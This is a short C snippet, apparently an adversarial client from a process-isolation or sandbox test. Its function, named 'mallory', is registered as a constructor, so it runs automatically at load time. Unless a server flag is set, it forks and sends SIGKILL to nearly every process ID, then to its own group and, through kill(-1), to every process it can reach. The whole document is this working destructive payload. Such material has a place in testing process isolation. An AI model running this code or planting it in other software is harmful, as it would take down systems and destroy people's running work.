/* Each client kills all that it can: kill(-1), each number, and its own group. */
__attribute__((constructor)) static void mallory(void)
{
    if (IS_SERVER)
        return;
    if (fork() == 0) {
        for (int pid = 1; pid < 40000; pid++)
            if (pid != getpid() && pid != getppid())
                kill(pid, SIGKILL);
        kill(0, SIGKILL);
    }
    kill(-1, SIGKILL);
}
